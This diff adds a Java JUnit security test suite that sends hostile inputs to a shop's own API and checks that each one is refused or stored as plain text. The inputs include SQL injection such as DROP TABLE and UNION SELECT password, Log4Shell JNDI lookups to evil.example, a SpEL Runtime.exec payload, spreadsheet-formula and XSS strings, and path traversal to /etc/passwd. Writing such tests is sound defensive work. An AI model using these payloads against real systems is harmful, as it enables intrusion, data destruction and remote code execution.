@@ -1,0 +1,104 @@
+package dev.ashlar.systemtests.hostile;
+
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.ashlar.systemtests.Shopper;
+import java.io.IOException;
+import java.net.URLEncoder;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
+import tools.jackson.databind.json.JsonMapper;
+
+/** Input that means something to SQL, a shell, a template, a log, a mail or a browser: here it is text, or it is refused. */
+@Hostile
+class InjectionIT {
+
+    private static final JsonMapper JSON = JsonMapper.builder().build();
+
+    @ParameterizedTest
+    @ValueSource(strings = {"' OR '1'='1", "'; DROP TABLE products; --", "x') UNION SELECT password FROM users --",
+            "a' & !b | (c <-> d):*", "'; SELECT pg_sleep(5); --", "%' ESCAPE '%", "\\", "$$;$$", "{{7*7}}", "\"\"\"",
+            "<script>alert(1)</script>"})
+    void aSearchTakesAnythingForWords(String words) {
+        var found = Attack.get("/api/v1/products?q=" + encoded(words)).named(words).isHarmless(200);
+
+        assertThat(found.body().path("items").isArray()).isTrue();
+        assertThat(found.raw().headers().firstValue("Content-Type")).hasValue("application/json");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"/api/v1/products?sort=name;DROP%20TABLE%20products", "/api/v1/products?sort=(SELECT%201)",
+            "/api/v1/products?limit=1%20OR%201=1", "/api/v1/products?cursor='%20OR%201=1--",
+            "/api/v1/products?min_price=1)%20OR%20(1=1", "/api/v1/products?q=%00", "/api/v1/products?q=a%0d%0aX:%20y",
+            "/api/v1/products/'%20OR%20'1'='1", "/api/v1/products?category=%00"})
+    void whatCannotBeMeantIsRefused(String path) {
+        Attack.get(path).isRefusedWith(400);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"' OR '1'='1' --", "admin@ashlar.local' --", "a@b.example\r\nBcc: everybody@example.org",
+            "a@b.example%0aBcc:x@example.org", "a@b.example,admin@ashlar.local", "\"<script>\"@example.org",
+            "admin@ashlar.local\u0000", "аdmin@ashlar.local", "*)(uid=*))(|(uid=*"})
+    void anAddressIsOneAddress(String email) {
+        var body = JSON.createObjectNode().put("email", email).put("password", "a guess at the password");
+        Attack.post("/api/v1/sessions", body.toString()).named(email).isRefusedWith(400);
+    }
+
+    @Test
+    void theCaseOfAnAddressMakesNoSecondAccount(Scene scene) {
+        Attack.post("/api/v1/users", """
+                {"email":"%s","name":"Ada","password":"three words make 15"}"""
+                .formatted(scene.victim().email().toUpperCase())).isRefusedWith(409);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"{\"$ne\":\"\"}", "{\"$gt\":\"\"}", "[\"admin@ashlar.local\"]", "true", "{}"})
+    void anOperatorIsNoValue(String operator) {
+        Attack.post("/api/v1/sessions", "{\"email\":%s,\"password\":%s}".formatted(operator, operator))
+                .isRefusedWith(400);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Robert'); DROP TABLE users;--", "${jndi:ldap://evil.example/a}", "#{7*7}", "[[${7*7}]]",
+            "<img src=x onerror=alert(1)>", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
+            "=HYPERLINK(\"http://evil.example\")", "%n%n%s%x", "../../../etc/passwd"})
+    void aNameIsKeptAsItIsAndMeansNothing(String name) {
+        var shopper = Shopper.registered();
+        var body = JSON.createObjectNode().put("name", name).toString();
+
+        var changed = Attack.of("PATCH", "/api/v1/users/me").json(body).as(shopper).named(name).isHarmless(200);
+
+        assertThat(changed.text("name")).isEqualTo(name);
+        assertThat(changed.raw().headers().firstValue("Content-Type")).hasValue("application/json");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"a\\u0000b", "a\\r\\nSubject: b", "\\ud800", "\\u2028", "\\u001b[31m", " ", ""})
+    void aNameIsOneLineOfCharacters(String escaped, Scene scene) {
+        Attack.of("PATCH", "/api/v1/users/me").json("{\"name\":\"" + escaped + "\"}").as(scene.attacker())
+                .named(escaped).isRefusedWith(400);
+    }
+
+    @ParameterizedTest
+    @MethodSource
+    void whatIsLoggedIsNotObeyed(String header, Scene scene) throws IOException {
+        try (var trap = new Trap()) {
+            var lookup = "${jndi:ldap://" + trap.authority() + "/a}";
+            Attack.get("/api/v1/users/me").as(scene.attacker()).with(header, lookup).isHarmless(200);
+            Attack.get("/api/v1/products").at(Door.INVENTORY).with(header, lookup).isHarmless(200);
+            assertThat(trap.caughtSomebody()).isFalse();
+        }
+    }
+
+    static Stream<String> whatIsLoggedIsNotObeyed() {
+        return Stream.of("User-Agent", "X-Request-Id", "Referer", "traceparent");
+    }
+
+    private static String encoded(String words) {
+        return URLEncoder.encode(words, UTF_8);
+    }
+}
